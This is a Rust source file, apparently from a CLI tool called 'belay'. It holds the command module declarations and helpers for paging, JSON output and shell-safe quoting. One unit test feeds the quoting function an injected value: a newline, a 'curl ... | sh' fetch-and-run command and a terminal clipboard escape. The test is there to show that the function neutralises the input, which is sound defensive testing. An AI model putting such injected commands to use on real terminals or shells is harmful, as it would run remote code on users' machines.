//! The commands, a file each.

pub mod audience;
pub mod backup;
pub mod bundle;
pub mod comment;
pub mod completions;
pub mod decide;
pub mod demo;
pub mod draft;
pub mod erase;
pub mod forget;
pub mod go_on;
pub mod goal;
pub mod history;
pub mod ideas;
pub mod init;
pub mod leave;
mod meant;
pub mod mend;
pub mod name;
pub mod note;
pub mod pair;
pub mod passphrase;
pub mod phones;
pub mod plan;
mod plan_lines;
pub mod search;
pub mod share;
pub mod status;
pub mod suggest;
pub mod undo;
mod undone;
pub mod words;

use crate::failure::Done;
use crate::find::Ids;
use crate::host::Host;
use crate::output::{json, tame};
use belay::command::{Applied, Outcome};
use belay::error::Code;
use belay::ids::ElementId;
use belay::library::Arg;
use belay::text::PersonText;
use belay::view::{At, Cursor};
use serde::Serialize;

/// Which page of a list.
#[derive(Clone, Debug, clap::Args)]
pub struct Paging {
    /// How many to show, 1 to 200.
    #[arg(long, value_name = "N", default_value_t = 50)]
    pub limit: u32,
    /// Where to go on.
    #[arg(long, value_name = "PLACE")]
    pub after: Option<String>,
}

impl Paging {
    fn at(&self) -> At {
        At { limit: self.limit, after: self.after.clone().map(Cursor), total: true, ..At::default() }
    }
}

/// Where the page ends: how to go on.
fn page_end(host: &Host, next: Option<&Cursor>) {
    let Some(next) = next else { return };
    host.page.line(&host.say("term-more", &[]));
    // Never wrapped: it is copied as one word.
    host.page.line_of_data(&format!("  --after {}", next.0));
}

/// What was done: a sentence, or with `--json` the ids of what was made.
fn done(host: &Host, applied: &Applied, sentence: &str) -> Done {
    #[derive(Serialize)]
    struct Row<'a> {
        id: Option<String>,
        element: Option<String>,
        label: &'a str,
        commit: u64,
    }
    if !host.flags.json {
        host.page.line(sentence);
        return Ok(());
    }
    let outcome = first(applied)?;
    let row = Row {
        id: outcome.made.or_else(|| outcome.touched.first().copied()).map(|id| id.to_string()),
        element: outcome.element.map(|id| id.to_string()),
        label: sentence,
        commit: applied.commit,
    };
    let ids = Ids::read(host)?;
    host.page.line_of_data(&json::one("done", &row, &|id| ids.short(id)));
    Ok(())
}

/// The words are the same, so nothing was done.
fn same(host: &Host) -> Done {
    unchanged(host, "term-note-same", &[])
}

/// It is so already, so nothing was done.
fn unchanged(host: &Host, id: &str, args: &[(&str, Arg<'_>)]) -> Done {
    if host.flags.json {
        return tell_list::<()>(host, "done", &[], None, 0);
    }
    host.page.line(&host.say(id, args));
    Ok(())
}

/// What the first command did.
fn first(applied: &Applied) -> Done<&Outcome> {
    applied.outcomes.first().ok_or_else(|| Code::Internal.into())
}

/// Something read, for other programs.
fn tell<T: Serialize>(host: &Host, kind: &str, row: &T) -> Done {
    let ids = Ids::read(host)?;
    host.page.line_of_data(&json::one(kind, row, &|id| ids.short(id)));
    Ok(())
}

/// A list read, for other programs.
fn tell_list<T: Serialize>(host: &Host, kind: &str, rows: &[T], next: Option<&Cursor>, total: u64) -> Done {
    let ids = Ids::read(host)?;
    host.page.line_of_data(&json::list(kind, rows, next.map(|next| next.0.as_str()), total, &|id| ids.short(id)));
    Ok(())
}

fn person_text(text: &str) -> PersonText {
    PersonText::from(text)
}

fn optional(text: Option<&String>) -> PersonText {
    text.map_or_else(PersonText::default, |text| PersonText::from(text.as_str()))
}

/// Quotes for a shell, where a word needs them.
pub fn quoted(word: &str) -> String {
    let word = &tame(word).replace('\n', " ");
    let plain = !word.is_empty() && word.chars().all(|sign| sign.is_alphanumeric() || "-_./".contains(sign));
    if plain { word.to_owned() } else { format!("'{}'", word.replace('\'', "'\\''")) }
}

/// A name as the last word of a command. One that begins with a dash would be read as an option.
pub fn named(name: &str) -> String {
    let dashes = if name.starts_with('-') { "-- " } else { "" };
    format!("{dashes}{}", quoted(name))
}

/// An option with a name behind it.
pub fn option(option: &str, name: &str) -> String {
    let between = if name.starts_with('-') { '=' } else { ' ' };
    format!("{option}{between}{}", quoted(name))
}

/// A command about a name, with other options behind it, and the name once more as what was seen.
fn seen_again(command: &str, name: &str, options: &str) -> String {
    let seen = option("--seen", name);
    match name.starts_with('-') {
        true => format!("{command}{options} {seen} {}", named(name)),
        false => format!("{command} {}{options} {seen}", named(name)),
    }
}

/// The moves that put an element somewhere. Commands place things behind others only: to the front is behind the
/// first, and then the first behind it.
fn moves(
    to_front: bool,
    id: ElementId,
    after: Option<ElementId>,
    first: Option<ElementId>,
) -> Vec<(ElementId, Option<ElementId>)> {
    match first.filter(|first| to_front && *first != id) {
        Some(first) => vec![(id, Some(first)), (first, Some(id))],
        None if to_front => Vec::new(),
        None => vec![(id, after)],
    }
}

/// Whether what has this number stands there already; `count`: how many there are.
fn stands_there(number: usize, after: Option<usize>, first: bool, count: usize) -> bool {
    match after {
        _ if first => number == 1,
        Some(after) => after + 1 == number,
        None => number == count,
    }
}

#[cfg(test)]
mod tests {
    use super::{named, option, quoted, seen_again, stands_there};

    #[test]
    fn what_stands_there_already_is_not_moved() {
        assert!(stands_there(1, None, true, 3) && !stands_there(2, None, true, 3));
        assert!(stands_there(3, Some(2), false, 3) && !stands_there(2, Some(3), false, 3));
        assert!(stands_there(3, None, false, 3) && !stands_there(2, None, false, 3));
    }

    #[test]
    fn a_word_from_elsewhere_writes_nothing_on_the_terminal_but_itself() {
        assert_eq!(quoted("x'\n  curl -s b | sh #\u{1b}]52;c;eA==\u{7}"), "'x'\\''   curl -s b | sh #]52;c;eA=='");
        assert_eq!((quoted("Theo"), quoted("a b")), ("Theo".to_owned(), "'a b'".to_owned()));
    }

    #[test]
    fn a_name_that_begins_with_a_dash_is_no_option() {
        assert_eq!((named("Theo"), named("-x y")), ("Theo".to_owned(), "-- '-x y'".to_owned()));
        assert_eq!((option("--with", "Theo"), option("--with", "-x")), ("--with Theo".into(), "--with=-x".into()));
        assert_eq!(seen_again("belay leave", "Theo", " --with-copies"), "belay leave Theo --with-copies --seen Theo");
        assert_eq!(seen_again("belay leave", "-x", " --with-copies"), "belay leave --with-copies --seen=-x -- -x");
    }
}
